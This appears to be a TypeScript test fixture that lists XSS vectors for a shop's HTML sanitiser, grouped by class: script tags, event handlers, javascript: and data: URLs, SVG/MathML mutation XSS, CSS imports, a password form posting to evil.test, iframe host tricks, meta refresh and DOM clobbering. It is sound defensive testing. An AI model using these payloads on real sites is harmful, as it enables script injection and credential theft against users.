/** One hostile (or harmless) HTML input for the shop's sanitiser. */
export interface SanitiserVector {
  /** The class of attack and what it tries, shown when the vector fails. */
  readonly name: string;
  readonly html: string;
  /**
   * A CSS selector that must still match in the sanitised block: what a harmless part of the
   * input keeps, so the suite cannot pass by deleting everything.
   */
  readonly keeps?: string;
}

/**
 * XSS vectors by class, written for this shop after the classes DOMPurify's own suite covers
 * (its `test/fixtures/expect.mjs` lives in its repository, not in the npm package). Every
 * payload calls `alert(1)`: the page records any call, and the spec checks the DOM left behind.
 * Issue 13 point 6 and platform §5.
 */
export const SANITISER_VECTORS: readonly SanitiserVector[] = [
  // Harmless content first: it must survive.
  {
    name: 'harmless: text, emphasis and a shop link',
    html: '<h2 id="returns">Returns</h2><p>Plain <strong>text</strong> and a <a href="/en/">link</a>.</p>',
    keeps: 'h2#returns + p > strong + a[href="/en/"]',
  },
  {
    name: 'harmless: list and picture',
    html: '<ul><li>one</li><li>two</li></ul><img src="/media/none.jpg" alt="Ski">',
    keeps: 'ul > li + li',
  },

  // Script elements.
  { name: 'script: plain', html: '<script>alert(1)</script><p>after</p>', keeps: 'p' },
  { name: 'script: external, upper case', html: '<SCRIPT SRC=https://evil.test/x.js></SCRIPT>' },
  { name: 'script: split by a nested tag', html: '<scr<script>ipt>alert(1)</scr</script>ipt>' },
  { name: 'script: doubled brackets', html: '<<script>script>alert(1)<</script>/script>' },
  {
    name: 'script: comment hiding the end tag',
    html: '<script>/*</script><img src=x onerror=alert(1)>*/</script>',
  },

  // Inline event handlers.
  { name: 'handler: img onerror', html: '<img src=x onerror=alert(1)>' },
  { name: 'handler: unterminated attribute', html: '<img src=x onerror="alert(1)"//' },
  { name: 'handler: upper-case name', html: '<img src=x ONERROR=alert(1)>' },
  { name: 'handler: entity-encoded code', html: '<img src=x onerror=alert&#40;1&#41;>' },
  { name: 'handler: slashes as separators', html: '<img/src=x/onerror=alert(1)>' },
  { name: 'handler: code from src', html: '<img src="x:alert(1)" onerror="eval(src)">' },
  { name: 'handler: body onload', html: '<body onload=alert(1)><p>b</p></body>', keeps: 'p' },
  { name: 'handler: svg onload', html: '<svg onload=alert(1)>' },
  { name: 'handler: details ontoggle', html: '<details open ontoggle=alert(1)>x</details>' },
  { name: 'handler: mouse over', html: '<div onmouseover="alert(1)">hover</div>', keeps: 'div' },
  {
    name: 'handler: autofocus onfocus',
    html: '<a href="/en/" autofocus onfocus=alert(1)>x</a>',
    keeps: 'a[href="/en/"]',
  },
  { name: 'handler: video source onerror', html: '<video><source onerror=alert(1)></video>' },
  { name: 'handler: audio onerror', html: '<audio src=x onerror=alert(1)></audio>' },
  { name: 'handler: marquee onstart', html: '<marquee onstart=alert(1)>m</marquee>' },
  {
    name: 'handler: popover onbeforetoggle',
    html: '<div popover id=vector-popover onbeforetoggle=alert(1)>p</div>',
  },
  { name: 'handler: field autofocus', html: '<input autofocus onfocus=alert(1)>' },
  { name: 'handler: textarea autofocus', html: '<textarea autofocus onfocus=alert(1)></textarea>' },
  { name: 'handler: keygen autofocus', html: '<keygen autofocus onfocus=alert(1)>' },

  // Script addresses: javascript:, vbscript:, data:, with entities, whitespace and controls.
  { name: 'url: javascript link', html: '<a href="javascript:alert(1)">j</a>' },
  { name: 'url: mixed case', html: '<a href="JaVaScRiPt:alert(1)">j</a>' },
  { name: 'url: leading space', html: '<a href=" javascript:alert(1)">j</a>' },
  { name: 'url: tab inside', html: '<a href="java\tscript:alert(1)">j</a>' },
  { name: 'url: newline inside', html: '<a href="java\nscript:alert(1)">j</a>' },
  { name: 'url: entity tab', html: '<a href="java&#x09;script:alert(1)">j</a>' },
  { name: 'url: entity newline', html: '<a href="jav&#x0A;ascript:alert(1)">j</a>' },
  {
    name: 'url: decimal entities',
    html: '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">j</a>',
  },
  { name: 'url: hex entities', html: '<a href="&#x6A;avascript&#x3A;alert(1)">j</a>' },
  { name: 'url: named colon entity', html: '<a href="javascript&colon;alert(1)">j</a>' },
  { name: 'url: leading control character', html: '<a href="\u0001javascript:alert(1)">j</a>' },
  { name: 'url: NUL inside', html: '<a href="java\u0000script:alert(1)">j</a>' },
  { name: 'url: vbscript', html: '<a href="vbscript:msgbox(1)">v</a>' },
  {
    name: 'url: data html, base64',
    html: '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">d</a>',
  },
  { name: 'url: data html', html: '<a href="data:text/html,<script>alert(1)</script>">d</a>' },
  { name: 'url: img src', html: '<img src="javascript:alert(1)">' },
  { name: 'url: area', html: '<map name="vector-map"><area href="javascript:alert(1)"></map>' },
  { name: 'url: video poster', html: '<video poster="javascript:alert(1)"></video>' },
  { name: 'url: table background', html: '<table background="javascript:alert(1)"></table>' },
  { name: 'url: quote cite', html: '<blockquote cite="javascript:alert(1)">q</blockquote>' },
  { name: 'url: object data', html: '<object data="javascript:alert(1)"></object>' },
  { name: 'url: embed src', html: '<embed src="javascript:alert(1)">' },
  { name: 'url: xlink on a link', html: '<a xlink:href="javascript:alert(1)">x</a>' },
  { name: 'url: math href', html: '<math href="javascript:alert(1)">click</math>' },
  {
    name: 'url: svg link',
    html: '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
  },
  {
    name: 'url: svg animated href',
    html: '<svg><a><animate attributeName="href" values="javascript:alert(1)"/><text>x</text></a></svg>',
  },
  {
    name: 'url: maction',
    html: '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
  },

  // SVG and MathML: namespace confusion and mutation on re-parsing.
  { name: 'svg: script inside', html: '<svg><script>alert(1)</script></svg>' },
  { name: 'svg: animate onbegin', html: '<svg><animate onbegin=alert(1) attributeName=x dur=1s>' },
  {
    name: 'svg: foreignObject',
    html: '<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>',
  },
  {
    name: 'svg: title integration point',
    html: '<svg><title><img src=x onerror=alert(1)></title></svg>',
  },
  { name: 'svg: style element', html: '<svg><style><img src=x onerror=alert(1)></style></svg>' },
  {
    name: 'svg: paragraph breaks out, style stays raw text',
    html: '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  },
  {
    name: 'svg: p inside svg and a style title',
    html: '<svg><p><style><g title="</style><img src=x onerror=alert(1)>">',
  },
  { name: 'svg: CDATA', html: '<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>' },
  {
    name: 'math: mglyph and style',
    html: '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  },
  {
    name: 'math: mglyph, svg and textarea',
    html: '<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=alert(1) src=1>"></path></textarea></mtext></svg></mglyph></mi></math>',
  },
  {
    name: 'math: nested forms',
    html: '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  },
  {
    name: 'math: annotation-xml as HTML',
    html: '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>',
  },
  {
    name: 'math: heading and anchor nesting',
    html: '<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src onerror=alert(1)>"></style></h1>',
  },

  // Raw-text and template elements whose content is re-read as markup.
  {
    name: 'mxss: noscript title',
    html: '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  },
  {
    name: 'mxss: noembed title',
    html: '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>',
  },
  {
    name: 'mxss: noframes title',
    html: '<noframes><p title="</noframes><img src=x onerror=alert(1)>"></noframes>',
  },
  { name: 'mxss: xmp title', html: '<xmp><p title="</xmp><img src=x onerror=alert(1)>">' },
  {
    name: 'mxss: iframe raw text',
    html: '<iframe><p title="</iframe><img src=x onerror=alert(1)>"></iframe>',
  },
  {
    name: 'mxss: textarea title',
    html: '<textarea><p title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  },
  {
    name: 'mxss: title element',
    html: '<title><img title="</title><img src=x onerror=alert(1)>">',
  },
  { name: 'mxss: template handler', html: '<template><img src=x onerror=alert(1)></template>' },
  { name: 'mxss: template script', html: '<template><script>alert(1)</script></template>' },
  { name: 'mxss: comment', html: '<!--<img src="--><img src=x onerror=alert(1)//">' },
  { name: 'mxss: CDATA in HTML', html: '<![CDATA[<img src=x onerror=alert(1)>]]>' },
  {
    name: 'mxss: CDATA closing a div',
    html: '<div id="vector-cdata"><![CDATA[</div><img src=x onerror=alert(1)>]]>',
  },
  {
    name: 'mxss: escaped title stays text',
    html: '<a title="&lt;/a&gt;&lt;img src=x onerror=alert(1)&gt;">t</a>',
    keeps: 'a[title]',
  },
  {
    name: 'mxss: data attribute stays text',
    html: '<p data-note="<img src=x onerror=alert(1)>">n</p>',
    keeps: 'p',
  },
  {
    name: 'mxss: processing instruction',
    html: '<?xml-stylesheet href="https://evil.test/x.xsl"?><p>pi</p>',
  },

  // Style sheets and inline styles.
  { name: 'style: @import url', html: '<style>@import url(x)</style>' },
  {
    name: 'style: @import string',
    html: "<style>@import 'https://evil.test/x.css';</style><p>after</p>",
    keeps: 'p',
  },
  {
    name: 'style: script url in a sheet',
    html: '<STYLE>body{background:url("javascript:alert(1)")}</STYLE>',
  },
  {
    name: 'style: svg style sheet',
    html: '<svg><style>@import url(https://evil.test/x.css)</style></svg>',
  },
  {
    name: 'style: link stylesheet',
    html: '<link rel="stylesheet" href="https://evil.test/x.css">',
  },
  {
    name: 'style: inline script url',
    html: '<div style="background-image:url(javascript:alert(1))">d</div>',
  },
  { name: 'style: expression()', html: '<div style="width:expression(alert(1))">d</div>' },
  { name: 'style: behavior', html: '<p style="behavior:url(https://evil.test/x.htc)">b</p>' },
  {
    name: 'style: full-page overlay',
    html: '<div style="position:fixed;inset:0;z-index:9999;background:#fff">overlay</div>',
  },

  // Forms, fields and anything that posts.
  {
    name: 'form: password phishing',
    html: '<form action="https://evil.test/steal"><input name="password" type="password"><button>Log in</button></form>',
  },
  {
    name: 'form: image field formaction',
    html: '<input type="image" src="x" formaction="https://evil.test/">',
  },
  {
    name: 'form: button owned by the page’s form',
    html: '<button form="checkout" formaction="https://evil.test/">Pay</button>',
  },
  {
    name: 'form: formaction script',
    html: '<form id="vector-form"></form><button form="vector-form" formaction="javascript:alert(1)">x</button>',
  },
  { name: 'form: isindex', html: '<isindex action="javascript:alert(1)" type="image">' },
  {
    name: 'form: select and options',
    html: '<select><option>a</option><optgroup label="g"></optgroup></select>',
  },
  { name: 'form: fieldset owner', html: '<fieldset form="checkout"><legend>l</legend></fieldset>' },

  // Frames: only exact video embeds stay, with the shop's fixed abilities.
  {
    name: 'iframe: srcdoc',
    html: '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
  },
  { name: 'iframe: script address', html: '<iframe src="javascript:alert(1)"></iframe>' },
  {
    name: 'iframe: data address',
    html: '<iframe src="data:text/html,<script>alert(1)</script>"></iframe>',
  },
  { name: 'iframe: other site', html: '<iframe src="https://evil.test/embed/x"></iframe>' },
  {
    name: 'iframe: issue 13 dot segments to a redirect',
    html: '<iframe src="https://www.youtube.com/embed/../../redirect?q=https://evil.test/"></iframe>',
  },
  {
    name: 'iframe: encoded slashes',
    html: '<iframe src="https://www.youtube.com/embed/a%2f..%2f..%2fredirect"></iframe>',
  },
  {
    name: 'iframe: backslashes',
    html: '<iframe src="https://www.youtube.com\\embed\\x"></iframe>',
  },
  {
    name: 'iframe: user info',
    html: '<iframe src="https://evil.test@www.youtube.com/embed/x"></iframe>',
  },
  {
    name: 'iframe: look-alike host',
    html: '<iframe src="https://www.youtube.com.evil.test/embed/x"></iframe>',
  },
  {
    name: 'iframe: other port',
    html: '<iframe src="https://www.youtube.com:8443/embed/x"></iframe>',
  },
  { name: 'iframe: frameset', html: '<frameset><frame src="javascript:alert(1)"></frameset>' },
  {
    name: 'iframe: YouTube embed keeps none of its own abilities',
    html: '<iframe src="https://www.youtube.com/embed/dQw4w9WgXcQ" srcdoc="<script>alert(1)</script>" allow="camera; microphone" sandbox="allow-top-navigation allow-scripts" name="opener" width="560" height="315"></iframe>',
    keeps: 'iframe[src="https://www.youtube.com/embed/dQw4w9WgXcQ"][width="560"]',
  },
  {
    name: 'iframe: YouTube no-cookie embed',
    html: '<iframe src="https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ?start=30" title="Video"></iframe>',
    keeps: 'iframe[title="Video"]',
  },
  {
    name: 'iframe: Vimeo embed',
    html: '<iframe src="https://player.vimeo.com/video/76979871?h=8272103f6e" allowfullscreen></iframe>',
    keeps: 'iframe[allowfullscreen]',
  },

  // Document-wide elements.
  {
    name: 'meta: refresh to script',
    html: '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  },
  {
    name: 'meta: refresh away',
    html: '<meta http-equiv="refresh" content="0;url=https://evil.test/">',
  },
  {
    name: 'base: other site',
    html: '<base href="https://evil.test/"><a href="/en/">l</a>',
    keeps: 'a',
  },
  { name: 'base: script', html: '<base href="javascript:/a/-alert(1)///////">' },
  {
    name: 'object: plugin',
    html: '<object data="https://evil.test/x.swf"></object><embed src="https://evil.test/x.swf">',
  },

  // DOM clobbering: ids and names that would shadow the document's or a form's properties.
  { name: 'clobbering: getElementById', html: '<img name="getElementById" src="/media/none.jpg">' },
  { name: 'clobbering: body', html: '<img name="body" src="/media/none.jpg">' },
  { name: 'clobbering: cookie', html: '<a id="cookie" href="/en/">c</a>', keeps: 'a' },
  { name: 'clobbering: location', html: '<img id="location" name="location">' },
  { name: 'clobbering: currentScript', html: '<img name="currentScript">' },
  { name: 'clobbering: form properties', html: '<img name="attributes"><img name="nodeName">' },
  {
    name: 'clobbering: defaultView chain',
    html: '<a id="defaultView"></a><a id="defaultView" name="alert" href="cid:alert(1)">x</a>',
  },
  { name: 'clobbering: prototype', html: '<p id="__proto__">p</p>' },

  // Links: new tabs, targets and the unparsable address.
  {
    name: 'link: issue 13 unparsable address',
    html: '<a href="http://[">bad</a><p>rest</p>',
    keeps: 'a:not([href]) + p',
  },
  {
    name: 'link: new tab gets noopener',
    html: '<a href="https://evil.test/" target="_blank" rel="opener">o</a>',
    keeps: 'a[rel="noopener noreferrer"][target="_blank"]',
  },
  {
    name: 'link: other target',
    html: '<a href="/en/" target="_top">t</a>',
    keeps: 'a:not([target])',
  },
  { name: 'link: ping', html: '<a href="/en/" ping="https://evil.test/">p</a>', keeps: 'a' },

  // Last: harmless again, so the whole block list is known to have rendered.
  {
    name: 'harmless: closing paragraph',
    html: '<p class="vector-end">end</p>',
    keeps: 'p.vector-end',
  },
];
